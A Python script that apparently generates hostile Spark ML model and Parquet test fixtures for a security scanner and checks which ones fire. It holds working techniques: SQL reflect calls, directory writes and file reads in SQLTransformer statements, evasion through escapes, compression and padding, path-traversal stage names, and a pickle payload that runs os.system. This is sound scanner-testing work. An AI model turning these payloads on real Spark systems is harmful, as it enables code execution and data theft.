"""Makes hostile Spark ML models and tables, and proves them: spark_malicious.py SPARK FIXTURES CLASSES. Run by run.sh with the venv `mleap`.

SPARK is what spark_models.py wrote, CLASSES a folder with weir/Canary.class for the class path. Each fixture is loaded and used once by PySpark
in a throwaway folder; it must leave weir-canary there, set the property weir-canary of the Java machine, or give back what stands in secret.txt.
The manifest says what fired.
"""
import base64
import bz2
import gzip
import json
import os
import pickle
import shutil
import sys
import tempfile

from pyspark.ml import PipelineModel
from pyspark.sql import SparkSession
from pyspark.sql.types import IntegerType, StructField, StructType

REFLECT = "SELECT *, %s('java.lang.System', 'setProperty', 'weir-canary', 'fired') AS x FROM __THIS__"
WRITE = "INSERT OVERWRITE DIRECTORY '%s' USING csv SELECT 1 AS fired"
READ = "SELECT *, value FROM __THIS__, text.`%s`"


class Maker:
    def __init__(self, models, root):
        self.models, self.root, self.entries = models, root, []
        shutil.rmtree(os.path.join(root, "spark"), ignore_errors=True)
        os.makedirs(os.path.join(root, "spark"))

    def add(self, name, technique, gives, loader="PipelineModel.load"):
        self.entries.append(dict(path=f"spark/{name}/", sha256="", technique=technique, family="spark", loader=loader, fires=[], gives=gives, canary="file", on=[], note=""))
        return os.path.join(self.root, "spark", name)

    def copy(self, name, technique, gives, base="sql", **more):
        to = self.add(name, technique, gives, **more)
        shutil.copytree(os.path.join(self.models, base), to)
        for where, _, files in os.walk(to):  # checksums of files that will change
            for f in files:
                if f.endswith(".crc"):
                    os.remove(os.path.join(where, f))
        return to

    def statement(self, name, sql, technique, gives="property", change=None):
        to = self.copy(name, technique, gives)
        stage = os.path.join(to, "stages", os.listdir(os.path.join(to, "stages"))[0], "metadata", "part-00000")
        with open(stage) as f:
            meta = json.load(f)
        meta["paramMap"]["statement"] = sql
        text = json.dumps(meta, separators=(",", ":"))
        if change:
            change(stage, text)
        else:
            with open(stage, "w") as f:
                f.write(text + "\n")
        return to

    def statements(self):
        self.statement("sql-reflect", REFLECT % "reflect", "reflect calls a static method")
        self.statement("sql-java-method", REFLECT % "JAVA_METHOD", "java_method, in capitals")
        self.statement("sql-quoted", REFLECT % "`reflect`", "the function's name is quoted")
        self.statement("sql-comment", REFLECT % "reflect /* harmless */ ", "a comment between name and arguments")
        self.statement("sql-dashes", "SELECT '--' AS d, " + (REFLECT % "reflect")[len("SELECT "):], "a text that looks like the beginning of a comment")
        self.statement("sql-escaped", REFLECT % "reflect", "the name is spelled with JSON escapes", change=lambda p, t: write(p, t.replace("reflect(", "\\u0072eflect(").encode()))
        self.statement("sql-gzip", REFLECT % "reflect", "metadata in gzip, which Spark reads by its name",
                       change=lambda p, t: (os.remove(p), write(p + ".gz", gzip.compress(t.encode() + b"\n", mtime=0))))
        self.statement("sql-bzip2", REFLECT % "reflect", "metadata in bzip2", change=lambda p, t: (os.remove(p), write(p + ".bz2", bz2.compress(t.encode() + b"\n"))))
        self.statement("sql-second-part", REFLECT % "reflect", "the first file of the metadata is empty", change=lambda p, t: (write(p, b""), write(p[:-1] + "1", t.encode() + b"\n")))
        self.statement("sql-blank", REFLECT % "reflect", "40,000 spaces before the metadata", change=lambda p, t: write(p, b" " * 40_000 + t.encode() + b"\n"))
        self.statement("sql-second-line", REFLECT % "reflect", "an honest second line, which Spark does not read",
                       change=lambda p, t: write(p, (t + "\n" + t.replace("reflect", "concat") + "\n").encode()))
        self.statement("sql-last", REFLECT % "reflect", "the parameters come behind 40,000 bytes of others", change=lambda p, t: write(p, last(t)))
        self.statement("sql-insert", WRITE % "weir-canary", "INSERT OVERWRITE DIRECTORY", gives="file")
        self.statement("sql-with-comment", "/* SELECT */ " + WRITE % "weir-canary", "a comment before the command", gives="file")
        self.statement("sql-create-table", "CREATE TABLE t USING csv LOCATION 'weir-canary' AS SELECT 1 AS fired", "CREATE TABLE AS", gives="file")
        self.statement("sql-read", READ % "secret.txt", "SELECT from a file", gives="read")
        self.default()

    def default(self):
        """The statement as a default: honest writers put it among the parameters."""
        def change(p, t):
            meta = json.loads(t)
            meta["defaultParamMap"] = {**meta["defaultParamMap"], "statement": meta["paramMap"].pop("statement")}
            write(p, json.dumps(meta).encode() + b"\n")
        self.statement("sql-default", REFLECT % "reflect", "the statement is a default", change=change)

    def classes(self):
        for name, cls, how in [("class-canary", "weir.Canary", "a class of the class path is initialised"),
                               ("class-platform", "org.apache.spark.deploy.SparkSubmit", "a class of the platform is initialised")]:
            to = self.copy(name, how, "file" if "weir" in cls else "class")
            for where, _, files in os.walk(os.path.join(to, "stages")):
                for f in files:
                    if f == "part-00000":
                        path = os.path.join(where, f)
                        with open(path) as r:
                            t = r.read()
                        write(path, t.replace("org.apache.spark.ml.feature.SQLTransformer", cls).encode())

    def traversal(self):
        for name, uid, how in [("stage-outside", "../../../../../outside", "a stage's name leads out of the model"),
                               ("stage-below", "x/y/../../../../../outside", "a stage's name goes down and then out"),
                               ("stage-escaped", "\\u002e\\u002e/../../../../outside", "a stage's name leads out, spelled with escapes")]:
            to = self.copy(name, how, "property")
            top = os.path.join(to, "metadata", "part-00000")
            with open(top) as f:
                meta = json.load(f)
            old = meta["paramMap"]["stageUids"][0]
            with open(top) as f:
                t = f.read()
            write(top, t.replace(old, uid).encode())

    def tables(self, spark):
        """Tables whose schema carries a class: the pickle of a Python class that runs, and a class of Java that is no type."""
        run = pickle.dumps(Run())
        for name, body, how, gives in [
            ("udt-pickle", {"pyClass": "os.Missing", "serializedClass": base64.b64encode(run).decode()}, "the schema carries a pickled class that runs", "file"),
            # whose constructor opens java0.log in the home folder
            ("udt-class", {"class": "java.util.logging.FileHandler", "pyClass": ""}, "the schema names a class of Java of which an object is made", "home"),
        ]:
            to = self.add(name, how, gives, loader="spark.read.parquet")
            schema = StructType([StructField("v", IntegerType())])
            df = spark.createDataFrame([(1,)], schema).coalesce(1)
            df.write.parquet("file://" + os.path.abspath(to))
            retype(to, body)


class Run:
    def __reduce__(self):
        return os.system, ("echo fired > weir-canary",)


def retype(folder, body):
    """Puts a user-defined type into the schema that Spark wrote: its own writer makes objects of the class first."""
    for f in os.listdir(folder):
        path = os.path.join(folder, f)
        if f.endswith(".crc"):
            os.remove(path)
        elif f.endswith(".parquet"):
            with open(path, "rb") as r:
                data = r.read()
            old = b'{"type":"struct","fields":[{"name":"v","type":"integer","nullable":true,"metadata":{}}]}'
            assert data.count(old) == 1
            new = json.dumps({"type": "struct", "fields": [{"name": "v", "type": {"type": "udt", **body, "sqlType": "integer"}, "nullable": True, "metadata": {}}]}).encode()
            at = data.index(old)
            before = data[:at]
            n = varint(len(old))
            assert before.endswith(n)
            data = before[:-len(n)] + varint(len(new)) + new + data[at + len(old):]
            size = int.from_bytes(data[-8:-4], "little") + len(new) - len(old) + len(varint(len(new))) - len(n)
            write(path, data[:-8] + size.to_bytes(4, "little") + b"PAR1")


def varint(n):
    out = b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def last(text):
    meta = json.loads(text)
    params = meta.pop("paramMap")
    pad = {"pad%d" % i: "x" * 1000 for i in range(40)}
    return (json.dumps({**meta, "tsv": pad, "paramMap": params}) + "\n").encode()


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def use(spark, e, path):
    """Loads a fixture and uses it once; what it says is for the proof."""
    if e["loader"] == "spark.read.parquet":
        return str(spark.read.parquet(path).schema)
    df = spark.createDataFrame([(1.0, 2.0, "Bern", "a text")], ["label", "x", "city", "text"])
    return str(PipelineModel.load(path).transform(df).collect())


def prove(spark, root, entries, where):
    system = spark._jvm.java.lang.System
    for i, e in enumerate(entries):
        copy = os.path.join(where, "m", str(i))
        shutil.copytree(os.path.join(root, e["path"]), copy)
        system.clearProperty("weir-canary")
        said = ""
        try:
            said = use(spark, e, "file://" + copy)
        except Exception as x:
            said = str(x)
        ok = {"property": system.getProperty("weir-canary") is not None, "file": os.path.exists("weir-canary"), "read": "top secret" in said,
              "class": "SparkSubmit.read" in said,
              "home": os.path.exists("java0.log")}[e["gives"]]
        e["fires"] = ["spark " + spark.version] if ok else []
        if not ok:
            print("did not fire:", e["path"], said[:500])
        (shutil.rmtree if os.path.isdir("weir-canary") else lambda p: os.path.exists(p) and os.remove(p))("weir-canary")
    print(sum(bool(e["fires"]) for e in entries), "of", len(entries), "fired")


def main(models, root, classes):
    models, root, classes = map(os.path.abspath, (models, root, classes))
    os.environ["PYSPARK_PYTHON"], os.environ["SPARK_LOCAL_IP"] = sys.executable, "127.0.0.1"
    with tempfile.TemporaryDirectory(prefix="weir-spark") as where:
        os.chdir(where)
        with open("secret.txt", "w") as f:
            f.write("top secret\n")
        spark = (SparkSession.builder.master("local[1]").config("spark.ui.enabled", "false").config("spark.driver.memory", "1g").config("spark.driver.extraClassPath", classes).config("spark.driver.extraJavaOptions", "-Duser.home=" + where)
                 .config("spark.sql.shuffle.partitions", "1").config("spark.sql.warehouse.dir", os.path.join(where, "wh")).getOrCreate())
        m = Maker(models, root)
        m.statements()
        m.classes()
        m.traversal()
        m.tables(spark)
        # what lies outside is a stage that fires
        outside = os.path.join(where, "outside")
        stages = os.path.join(root, "spark", "sql-reflect", "stages")
        shutil.copytree(os.path.join(stages, os.listdir(stages)[0]), outside)
        prove(spark, root, m.entries, where)
        os.chdir(root)
    with open(os.path.join(root, "spark", "manifest.json"), "w") as f:
        f.write("[\n" + ",\n".join(json.dumps(e) for e in sorted(m.entries, key=lambda e: e["path"])) + "\n]\n")


main(*sys.argv[1:])
